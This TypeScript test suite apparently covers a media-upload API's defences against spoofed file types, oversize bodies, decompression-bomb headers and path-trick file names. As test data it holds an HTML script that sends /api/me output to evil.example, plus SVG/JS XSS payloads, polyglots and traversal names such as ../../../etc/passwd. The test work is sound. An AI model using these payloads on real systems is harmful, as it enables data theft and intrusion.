import { env } from 'cloudflare:test';
import { eq } from 'drizzle-orm';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { getDb } from '#worker/db/client.ts';
import { media } from '#worker/db/schema.ts';
import { createProject, createUser, uploadMedia, type TestUser } from '#worker/test/factories.ts';
import { jpeg, lazyBody, mp4, png } from '#worker/test/files.ts';
import { send } from '#worker/test/http.ts';

/**
 * Upload abuse (issue 15 point 5): the type comes from the bytes and never from the name or the
 * declared type; a file too large is refused before a byte reaches R2; a header claiming a huge
 * picture (a decompression bomb) is refused from the header; a file name can carry no path or
 * invisible characters, and R2 keys never come from it. Every refusal is checked against the
 * bucket's listing, not only the status.
 */
const MIB = 1024 * 1024;
const encode = (text: string) => new TextEncoder().encode(text);
const concat = (...parts: Uint8Array[]) => {
  const out = new Uint8Array(parts.reduce((n, p) => n + p.byteLength, 0));
  let offset = 0;
  for (const part of parts) {
    out.set(part, offset);
    offset += part.byteLength;
  }
  return out;
};

/** A GIF header whose logical screen is `width` × `height` (16 bits each, little-endian). */
function gif(width: number, height: number): Uint8Array<ArrayBuffer> {
  return new Uint8Array([...encode('GIF89a'), width & 255, width >> 8, height & 255, height >> 8, 0x00, 0, 0, 0x3b]);
}

/** A WebP (RIFF … VP8X) whose canvas is `width` × `height` (24 bits each: up to 16,777,216). */
function webp(width: number, height: number): Uint8Array<ArrayBuffer> {
  const u24 = (n: number) => [n & 255, (n >> 8) & 255, (n >> 16) & 255];
  const vp8x = [...encode('VP8X'), 10, 0, 0, 0, 0, 0, 0, 0, ...u24(width - 1), ...u24(height - 1)];
  const body = [...encode('WEBP'), ...vp8x];
  const size = body.length;
  return new Uint8Array([...encode('RIFF'), size & 255, (size >> 8) & 255, 0, 0, ...body]);
}

/**
 * A JPEG whose frame header (SOF0, `width` × `height`) comes after `padding` bytes of metadata:
 * APP1 (EXIF) segments of at most 64 KiB each, as cameras and editors write them; `frame: false`
 * leaves the frame header out (a file whose size nothing can read). Some scan data follows.
 */
function paddedJpeg(width: number, height: number, padding: number, frame = true): Uint8Array<ArrayBuffer> {
  const parts: Uint8Array[] = [new Uint8Array([0xff, 0xd8])];
  for (let left = padding, n = 0; left > 0; n += 1) {
    const payload = Math.min(left, 65_533);
    const segment = new Uint8Array(4 + payload);
    segment.set([0xff, 0xe1, ((payload + 2) >> 8) & 255, (payload + 2) & 255]);
    segment.set(encode('Exif\0\0'), 4);
    // Filler that is not a marker (no 0xFF), different per segment.
    for (let i = 10; i < segment.length; i += 1) segment[i] = (i + n) % 0xfe;
    parts.push(segment);
    left -= payload;
  }
  if (frame) {
    parts.push(
      new Uint8Array([0xff, 0xc0, 0x00, 0x11, 8, (height >> 8) & 255, height & 255, (width >> 8) & 255, width & 255, 3, 1, 0x22, 0, 2, 0x11, 1, 3, 0x11, 1]),
    );
  }
  parts.push(new Uint8Array([0xff, 0xda, 0x00, 0x08, 1, 1, 0, 0, 0x3f, 0]), new Uint8Array(1024).fill(0x5a), new Uint8Array([0xff, 0xd9]));
  return concat(...parts) as Uint8Array<ArrayBuffer>;
}

async function setup() {
  const owner = await createUser();
  const project = await createProject(owner);
  return { owner, project };
}

function post(user: TestUser, projectId: string, body: BodyInit, headers: Record<string, string> = {}, filename = 'file.png') {
  return send(`/api/projects/${projectId}/media?filename=${encodeURIComponent(filename)}`, { body, headers, cookie: user.cookie });
}

/** Everything the bucket holds for the project: files and thumbnails. */
async function bucketOf(projectId: string): Promise<string[]> {
  const [files, thumbs] = await Promise.all([env.MEDIA.list({ prefix: `media/${projectId}/` }), env.MEDIA.list({ prefix: `thumbs/${projectId}/` })]);
  return [...files.objects, ...thumbs.objects].map((o) => o.key);
}

async function rowsOf(projectId: string) {
  return getDb(env.DB).select().from(media).where(eq(media.projectId, projectId)).all();
}

async function errorCode(response: Response): Promise<string | undefined> {
  return ((await response.json()) as { error?: { code?: string } }).error?.code;
}

describe('spoofed types', () => {
  const html = encode('<!doctype html><html><body><script>fetch("/api/me").then(r=>r.text()).then(t=>navigator.sendBeacon("https://evil.example",t))</script>');
  const cases: [string, Uint8Array, Record<string, string>, string][] = [
    ['HTML declared as image/png and named .png', html, { 'content-type': 'image/png' }, 'cute-cat.png'],
    [
      'an SVG with a script, declared as image/png',
      encode('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
      { 'content-type': 'image/png' },
      'logo.png',
    ],
    ['an SVG with an XML prolog', encode('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'), {}, 'logo.svg.jpg'],
    ['JavaScript named .jpg', encode('alert(document.cookie); // not a picture'), { 'content-type': 'image/jpeg' }, 'photo.jpg'],
    ['a PDF named .webp', encode('%PDF-1.7\n%âãÏÓ\n1 0 obj<</Type/Catalog>>endobj'), { 'content-type': 'image/webp' }, 'scan.webp'],
    [
      'an executable declared as video/mp4',
      new Uint8Array([0x4d, 0x5a, 0x90, 0, 3, 0, 0, 0, 4, 0, 0, 0, 0xff, 0xff, 0, 0]),
      { 'content-type': 'video/mp4' },
      'clip.mp4',
    ],
    ['a ZIP named .png', new Uint8Array([0x50, 0x4b, 0x03, 0x04, 20, 0, 0, 0, 8, 0, ...new Array(20).fill(0)]), { 'content-type': 'image/png' }, 'archive.png'],
  ];

  it.each(cases)('refuses %s with 415 and stores nothing', async (_label, bytes, headers, filename) => {
    const { owner, project } = await setup();
    const response = await post(owner, project.id, bytes as Uint8Array<ArrayBuffer>, headers, filename);
    expect(response.status).toBe(415);
    expect(await errorCode(response)).toBe('unsupported_media_type');
    expect(await bucketOf(project.id)).toEqual([]);
    expect(await rowsOf(project.id)).toEqual([]);
  });

  it('a PNG header in front of HTML is kept as a PNG and only ever served as one (nosniff, never text/html)', async () => {
    const { owner, project } = await setup();
    const polyglot = concat(png(4, 4, 1), html);
    const response = await post(owner, project.id, polyglot as Uint8Array<ArrayBuffer>, { 'content-type': 'text/html' }, 'page.html');
    expect(response.status).toBe(201);
    const item = (await response.json()) as { id: string; mime: string };
    expect(item.mime).toBe('image/png');
    const served = await send(`/api/media/${item.id}/file`, { cookie: owner.cookie });
    expect(served.headers.get('content-type')).toBe('image/png');
    expect(served.headers.get('x-content-type-options')).toBe('nosniff');
    expect(served.headers.get('content-disposition')).toMatch(/^inline; filename="page.html"/);
    await served.body?.cancel();
    // Its R2 object carries the sniffed type too, whatever was declared.
    expect((await env.MEDIA.head(`media/${project.id}/${item.id}`))?.httpMetadata?.contentType).toBe('image/png');
  });

  it('a real JPEG declared as text/html and named .html is stored as image/jpeg', async () => {
    const { owner, project } = await setup();
    const response = await post(owner, project.id, jpeg(320, 200), { 'content-type': 'text/html; charset=utf-8' }, 'index.html');
    expect(response.status).toBe(201);
    expect(await response.json()).toMatchObject({ mime: 'image/jpeg', width: 320, height: 200, name: 'index.html' });
  });

  it('a GIF header in front of script (GIFAR-style) is served as image/gif with nosniff', async () => {
    const { owner, project } = await setup();
    const bytes = concat(gif(2, 2), encode('*/=1;alert(document.domain);/*'));
    const item = await uploadMedia(owner, project.id, bytes as Uint8Array<ArrayBuffer>, 'anim.gif');
    const served = await send(`/api/media/${item.id}/file`, { cookie: owner.cookie });
    expect(served.headers.get('content-type')).toBe('image/gif');
    expect(served.headers.get('x-content-type-options')).toBe('nosniff');
    await served.body?.cancel();
  });
});

describe('oversize: refused without storing a byte', () => {
  it('an image declaring 21 MiB, a video declaring 101 MiB, and anything declaring 2 GiB: 413, an empty bucket, no row', async () => {
    const { owner, project } = await setup();
    const image = await post(owner, project.id, lazyBody(png(100, 100), 21 * MIB), { 'content-length': String(21 * MIB) });
    const video = await post(owner, project.id, lazyBody(mp4(640, 360, 1000), 101 * MIB), { 'content-length': String(101 * MIB) }, 'long.mp4');
    // Nothing of this body is read: the declared length alone decides.
    const huge = await post(owner, project.id, lazyBody(png(10, 10), 64), { 'content-length': String(2 * 1024 * MIB) });
    expect([image.status, video.status, huge.status]).toEqual([413, 413, 413]);
    for (const response of [image, video, huge]) expect(await errorCode(response)).toBe('payload_too_large');
    expect(await bucketOf(project.id)).toEqual([]);
    expect(await rowsOf(project.id)).toEqual([]);
  });

  it('a body longer than its Content-Length is refused (400) and its partial object removed from R2', async () => {
    const { owner, project } = await setup();
    const declared = 2 * MIB;
    const response = await post(owner, project.id, lazyBody(png(100, 100), 3 * MIB), { 'content-length': String(declared) });
    expect(response.status).toBe(400);
    expect(await bucketOf(project.id)).toEqual([]);
    expect(await rowsOf(project.id)).toEqual([]);
  });

  it('a thumbnail over 512 KiB is refused (413) and the bucket keeps no thumbnail', async () => {
    const { owner, project } = await setup();
    const item = await uploadMedia(owner, project.id, png(20, 20, 5));
    const response = await send(`/api/media/${item.id}/thumbnail`, { method: 'PUT', body: lazyBody(png(10, 10), 600 * 1024), cookie: owner.cookie });
    expect(response.status).toBe(413);
    expect(await bucketOf(project.id)).toEqual([`media/${project.id}/${item.id}`]);
  });
});

describe('decompression bombs in image headers', () => {
  const bombs: [string, Uint8Array<ArrayBuffer>][] = [
    ['a PNG of 65,535 × 65,535', png(65_535, 65_535)],
    ['a PNG of 2³¹−1 × 2³¹−1', png(2 ** 31 - 1, 2 ** 31 - 1)],
    ['a JPEG of 65,500 × 65,500', jpeg(65_500, 65_500)],
    ['a WebP canvas of 16,384 × 16,384', webp(16_384, 16_384)],
    ['a WebP canvas of 16,777,216 × 16,777,216', webp(16_777_216, 16_777_216)],
    ['a GIF screen of 65,535 × 65,535', gif(65_535, 65_535)],
    ['a very long, thin PNG (1 × 300,000,000)', png(1, 300_000_000)],
  ];

  it.each(bombs)('refuses %s (a few bytes) with 413 from the header, storing nothing', async (_label, bytes) => {
    const { owner, project } = await setup();
    const response = await post(owner, project.id, bytes);
    expect(response.status).toBe(413);
    const body = (await response.json()) as { error: { code: string; message: string } };
    expect(body.error.code).toBe('payload_too_large');
    expect(body.error.message).toMatch(/megapixels/);
    expect(await bucketOf(project.id)).toEqual([]);
    expect(await rowsOf(project.id)).toEqual([]);
  });

  it('still takes a large real photo (200 megapixels, a phone’s full-resolution mode)', async () => {
    const { owner, project } = await setup();
    const response = await post(owner, project.id, png(16_320, 12_240, 3));
    expect(response.status).toBe(201);
    expect(await response.json()).toMatchObject({ width: 16_320, height: 12_240 });
  });

  it('refuses a thumbnail whose header claims more than 4 megapixels (the renderer decodes thumbnails)', async () => {
    const { owner, project } = await setup();
    const item = await uploadMedia(owner, project.id, png(9000, 9000, 4));
    for (const bomb of [png(30_000, 30_000, 1), webp(16_384, 16_384), jpeg(4000, 4000)]) {
      const response = await send(`/api/media/${item.id}/thumbnail`, { method: 'PUT', body: bomb, cookie: owner.cookie });
      expect(response.status).toBe(413);
    }
    expect(await bucketOf(project.id)).toEqual([`media/${project.id}/${item.id}`]);
    expect((await rowsOf(project.id))[0]?.thumbnailKey).toBeNull();
    // A real browser-made thumbnail (480 wide) is taken.
    const ok = await send(`/api/media/${item.id}/thumbnail`, { method: 'PUT', body: png(480, 480, 2), cookie: owner.cookie });
    expect(ok.status).toBe(200);
  });
});

describe('pictures whose size comes after a long metadata block', () => {
  // The probe reads the first 256 KiB; a JPEG's frame header (its size) comes after its
  // metadata, which can be longer. The upload reads on for the size instead of storing a picture
  // of unknown size (which the renderer would have decoded blindly).
  const KIB = 1024;

  it('refuses a bomb (65,500 × 65,500) behind 300 KiB of EXIF with 413, storing nothing', async () => {
    const { owner, project } = await setup();
    const response = await post(owner, project.id, paddedJpeg(65_500, 65_500, 300 * KIB), {}, 'holiday.jpg');
    expect(response.status).toBe(413);
    const body = (await response.json()) as { error: { code: string; message: string } };
    expect(body.error.code).toBe('payload_too_large');
    expect(body.error.message).toMatch(/65,500 × 65,500/);
    expect(await bucketOf(project.id)).toEqual([]);
    expect(await rowsOf(project.id)).toEqual([]);
  });

  it('reads the size of 8,000 × 8,000 behind 300 KiB of EXIF: stored with it (under the 250-megapixel limit), never as unknown', async () => {
    const { owner, project } = await setup();
    const response = await post(owner, project.id, paddedJpeg(8000, 8000, 300 * KIB), {}, 'big.jpg');
    expect(response.status).toBe(201);
    expect(await response.json()).toMatchObject({ mime: 'image/jpeg', width: 8000, height: 8000 });
    expect((await rowsOf(project.id)).map((row) => [row.width, row.height])).toEqual([[8000, 8000]]);
  });

  // Heavy on a busy machine (1.5 MiB through the upload path): its own time budget, and the stored
  // bytes compared by digest (a deep equality over 1.5 million elements took seconds by itself).
  it('takes a real photo with a large EXIF block (1.5 MiB) before a small frame, with its size, and stores every byte', { timeout: 30_000 }, async () => {
    const { owner, project } = await setup();
    const bytes = paddedJpeg(1200, 800, 1536 * KIB);
    const response = await post(owner, project.id, bytes, {}, 'camera.jpg');
    expect(response.status).toBe(201);
    const item = (await response.json()) as { id: string; width: number; height: number; size: number };
    expect(item).toMatchObject({ width: 1200, height: 800, size: bytes.byteLength });
    const stored = new Uint8Array(await (await env.MEDIA.get(`media/${project.id}/${item.id}`))!.arrayBuffer());
    const digest = async (data: Uint8Array) =>
      [...new Uint8Array(await crypto.subtle.digest('SHA-256', new Uint8Array(data)))].map((b) => b.toString(16).padStart(2, '0')).join('');
    expect(stored.byteLength).toBe(bytes.byteLength);
    expect(await digest(stored)).toBe(await digest(bytes));
  });

  it('refuses a picture whose size cannot be read at all (no frame header) with 422 and a clear message, storing nothing', async () => {
    const { owner, project } = await setup();
    for (const bytes of [paddedJpeg(0, 0, 300 * KIB, false), paddedJpeg(0, 0, 10 * KIB, false)]) {
      const response = await post(owner, project.id, bytes, {}, 'broken.jpg');
      expect(response.status).toBe(422);
      const body = (await response.json()) as { error: { code: string; message: string } };
      expect(body.error.code).toBe('validation_failed');
      expect(body.error.message).toMatch(/could not read this picture’s width and height/);
    }
    expect(await bucketOf(project.id)).toEqual([]);
    expect(await rowsOf(project.id)).toEqual([]);
  });

  it('looks no further than the first 4 MiB (held in memory until the size is known): a frame header after that is refused', async () => {
    const { owner, project } = await setup();
    const response = await post(owner, project.id, paddedJpeg(1200, 800, 4 * MIB + 10 * KIB), {}, 'odd.jpg');
    expect(response.status).toBe(422);
    expect(((await response.json()) as { error: { message: string } }).error.message).toMatch(/in its first 4 MiB/);
    expect(await bucketOf(project.id)).toEqual([]);
    expect(await rowsOf(project.id)).toEqual([]);
  });

  it('a body that ends before its Content-Length while the size is still being looked for is a broken upload (400), storing nothing', async () => {
    const { owner, project } = await setup();
    const bytes = paddedJpeg(0, 0, 400 * KIB, false);
    const short = new ReadableStream<Uint8Array>({
      start(controller) {
        controller.enqueue(bytes);
        controller.close();
      },
    });
    const response = await post(owner, project.id, short, { 'content-length': String(2 * MIB) }, 'cut.jpg');
    expect(response.status).toBe(400);
    expect(await bucketOf(project.id)).toEqual([]);
    expect(await rowsOf(project.id)).toEqual([]);
  });
});

describe('file names with path tricks', () => {
  const names: [string, string][] = [
    ['../../../etc/passwd.png', 'passwd.png'],
    ['..\\..\\windows\\system32\\drivers\\etc\\hosts.png', 'hosts.png'],
    ['/var/www/html/shell.php.png', 'shell.php.png'],
    ['a\u0000b.png', 'ab.png'],
    ['%00.png', '%00.png'],
    ['invoice\u202egnp.exe', 'invoicegnp.exe'],
    ['\u2067right-to-left\u2069.png', 'right-to-left.png'],
    ['CON.png', '_CON.png'],
    ['nul', '_nul'],
    ['.htaccess', 'htaccess'],
    ['photo.png. . .', 'photo.png'],
    ['../', 'file'],
    ['x'.repeat(200), 'x'.repeat(200)],
  ];

  it.each(names)('%j is stored as %j, under a key made of ids only', async (filename, stored) => {
    const { owner, project } = await setup();
    const response = await post(owner, project.id, png(8, 8, filename.length), {}, filename);
    expect(response.status).toBe(201);
    const item = (await response.json()) as { id: string; name: string };
    expect(item.name).toBe(stored);
    expect((await rowsOf(project.id))[0]?.name).toBe(stored);
    expect(await bucketOf(project.id)).toEqual([`media/${project.id}/${item.id}`]);
    const served = await send(`/api/media/${item.id}/file?download=1`, { cookie: owner.cookie });
    const disposition = served.headers.get('content-disposition')!;
    // Only printable ASCII in the header, no path, no quote breaking out of filename="…".
    // eslint-disable-next-line no-control-regex -- control characters are what this is about
    expect(disposition).toMatch(/^attachment; filename="[^"/\\\x00-\x1f\x7f-\uffff]*"; filename\*=UTF-8''[A-Za-z0-9%._~!'()*-]*$/);
    await served.body?.cancel();
  });

  it('refuses a name over 200 characters (422) and an empty one (422), storing nothing', async () => {
    const { owner, project } = await setup();
    expect((await post(owner, project.id, png(8, 8, 1), {}, 'x'.repeat(201))).status).toBe(422);
    expect((await post(owner, project.id, png(8, 8, 2), {}, '   ')).status).toBe(422);
    expect(await bucketOf(project.id)).toEqual([]);
  });

  it('a rename is cleaned the same way', async () => {
    const { owner, project } = await setup();
    const item = await uploadMedia(owner, project.id, png(8, 8, 77));
    const response = await send(`/api/media/${item.id}`, { method: 'PATCH', json: { name: '../../secret\u202e\u0000.png' }, cookie: owner.cookie });
    expect(response.status).toBe(200);
    expect(await response.json()).toMatchObject({ name: 'secret.png' });
  });

  it('whatever the name, the R2 key is media/<project>/<id> and the stored name holds no path or control character (property)', async () => {
    const { owner, project } = await setup();
    const tricky = fc.constantFrom('../', '..\\', '/', '\u0000', '\u202e', '\u200f', 'CON', '.', ' ', '%2e%2e%2f', 'é', '😀', 'a.png');
    const filename = fc.array(tricky, { minLength: 1, maxLength: 8 }).map((parts) => parts.join(''));
    let seed = 1000;
    await fc.assert(
      fc.asyncProperty(filename, async (name) => {
        seed += 1;
        const response = await post(owner, project.id, png(8, 8, seed), {}, name);
        if (response.status === 422) return; // only blank names (after trimming) are refused
        expect(response.status).toBe(201);
        const item = (await response.json()) as { id: string; name: string };
        // eslint-disable-next-line no-control-regex -- control characters are what this is about
        expect(item.name).not.toMatch(/[/\\\u0000-\u001f\u202a-\u202e\u2066-\u2069\u200e\u200f]/);
        expect(item.name.length).toBeGreaterThan(0);
        const keys = await bucketOf(project.id);
        expect(keys).toContain(`media/${project.id}/${item.id}`);
        expect(keys.every((key) => /^media\/[A-Za-z0-9_-]+\/[A-Za-z0-9_-]+$/.test(key))).toBe(true);
      }),
      { numRuns: 40 },
    );
  });
});
